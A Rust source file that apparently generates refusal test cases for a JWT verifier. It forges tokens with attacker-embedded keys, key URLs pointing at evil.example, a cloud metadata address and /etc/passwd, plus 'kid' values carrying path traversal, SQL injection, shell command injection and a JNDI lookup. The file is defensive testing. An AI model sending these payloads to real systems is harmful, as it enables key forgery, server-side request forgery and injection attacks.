//! Members that would let the token choose its key.

use super::Family;
use crate::catalogue::Case;
use crate::forge::{claims, header, quote, token, with_header};
use crate::keys::{Signer, encode, public};

pub fn write(cases: &mut Vec<Case>) {
    embedded_keys(cases);
    key_names(cases);
}

/// Keys that come with the token belong to whoever made it.
fn embedded_keys(cases: &mut Vec<Case>) {
    let mut family = Family::new(cases, "header", "embedded-key").why(
        "CVE-2018-0114, CVE-2026-27962, CVE-2026-34240, RFC 8725 §3.10",
        "keys are the verifier's choice, never the token's",
    );
    let attacker = Signer::ed25519("attacker-ed25519");
    let jwk = public("attacker-ed25519").jwk;
    let forged = |name: &str, value: &str| {
        token(
            header("EdDSA").and(name, value).json(),
            claims().json(),
            &attacker,
        )
    };
    family.refuse("jwk", "header_embedded_key", forged("jwk", &jwk));
    family.refuse(
        "jwk and no kid",
        "header_embedded_key",
        token(
            header("EdDSA").without("kid").and("jwk", &jwk).json(),
            claims().json(),
            &attacker,
        ),
    );
    family.refuse(
        "jwk that is the issuer's own",
        "header_embedded_key",
        with_header(header("EdDSA").and("jwk", &public("ed25519-1").jwk).json()),
    );
    family.refuse("jwk that is a secret", "header_embedded_key", {
        let oct = header("EdDSA")
            .with("alg", r#""HS256""#)
            .and("jwk", r#"{"kty":"oct","k":""}"#);
        token(oct.json(), claims().json(), &Signer::hmac("HS256", b""))
    });
    family.refuse(
        "jwk null",
        "header_embedded_key",
        with_header(header("EdDSA").and("jwk", "null").json()),
    );
    let urls = [
        "https://evil.example/jwks.json",
        "https://id.example/.well-known/jwks.json",
        "https://id.example@evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        "data:application/json,{}",
        "//evil.example",
        "",
    ];
    for url in urls {
        family.refuse(
            format!("jku {url}"),
            "header_embedded_key",
            forged("jku", &quote(url)),
        );
        family.refuse(
            format!("x5u {url}"),
            "header_embedded_key",
            forged("x5u", &quote(url)),
        );
    }
    family.refuse(
        "x5c",
        "header_embedded_key",
        forged(
            "x5c",
            &format!("[{}]", quote(&encode(&public("attacker-ed25519").spki))),
        ),
    );
    family.refuse("x5c empty", "header_embedded_key", forged("x5c", "[]"));
    family.refuse(
        "x5t of a stranger",
        "signature_invalid",
        forged("x5t", r#""AAAA""#),
    );
    family.refuse(
        "x5t#S256 of a stranger",
        "signature_invalid",
        forged("x5t#S256", r#""AAAA""#),
    );
    family.refuse(
        "jwk under an escaped name",
        "header_embedded_key",
        forged("\\u006awk", &jwk),
    );
}

fn key_names(cases: &mut Vec<Case>) {
    let mut family = Family::new(cases, "header", "kid").why(
        "RFC 8725 §3.10, RFC 7515 §4.1.4",
        "a name is compared and nothing else: no path, no query, no command",
    );
    let names = [
        "",
        "unknown",
        "ED25519-1",
        "ed25519-1 ",
        " ed25519-1",
        "ed25519-1\0",
        "ed25519-1\r\n",
        "ed25519-1/",
        "ed25519-1.pem",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///etc/hostname",
        "%2e%2e%2fdev%2fnull",
        "' OR 1=1 --",
        "x' UNION SELECT 'AAAA' --",
        "\"; DROP TABLE keys; --",
        "| id",
        "$(id)",
        "`id`",
        "; sleep 5",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "__proto__",
        "constructor",
        "*",
        "%",
        "ed25519-?",
        "ｅd25519-1",
        "0",
        "null",
        "http://evil.example/key",
    ];
    for (at, name) in names.into_iter().enumerate() {
        family.refuse(
            format!("name {at} {name:?}"),
            "unknown_key",
            with_header(header("EdDSA").with("kid", &quote(name)).json()),
        );
    }
    for value in [
        "null",
        "1",
        "true",
        r#"["ed25519-1"]"#,
        r#"{"kid":"ed25519-1"}"#,
    ] {
        family.refuse(
            value,
            "header_malformed",
            with_header(header("EdDSA").with("kid", value).json()),
        );
    }
    let strangers = [
        ("of a retired key", "retired-es256", "ES256"),
        ("of a second key that is not served", "es256-2", "ES256"),
    ];
    for (title, key, algorithm) in strangers {
        let signer = Signer::ecdsa(key, &aws_lc_rs::signature::ECDSA_P256_SHA256_FIXED_SIGNING);
        family.refuse(
            title,
            "unknown_key",
            token(
                header(algorithm).with("kid", &quote(key)).json(),
                claims().json(),
                &signer,
            ),
        );
    }
    let other = Signer::ed25519("other-issuer-ed25519");
    family.refuse(
        "of another issuer's key",
        "unknown_key",
        token(
            header("EdDSA")
                .with("kid", r#""other-issuer-ed25519""#)
                .json(),
            claims().json(),
            &other,
        ),
    );
    family.refuse(
        "of the right key for another issuer's signature",
        "signature_invalid",
        token(header("EdDSA").json(), claims().json(), &other),
    );
    family.refuse(
        "path to an empty file, signed with an empty secret",
        "unknown_key",
        {
            let json = header("EdDSA")
                .with("alg", r#""HS256""#)
                .with("kid", r#""/dev/null""#)
                .json();
            token(json, claims().json(), &Signer::hmac("HS256", b""))
        },
    );
    family.refuse(
        "5 KB",
        "header_too_large",
        with_header(
            header("EdDSA")
                .with("kid", &quote(&"k".repeat(5 << 10)))
                .json(),
        ),
    );
    family = family.at("two-of-one-algorithm");
    let nameless = header("ES256").without("kid").json();
    family.refuse(
        "absent where two keys fit",
        "ambiguous_key",
        token(nameless, claims().json(), &Signer::of("ES256")),
    );
}
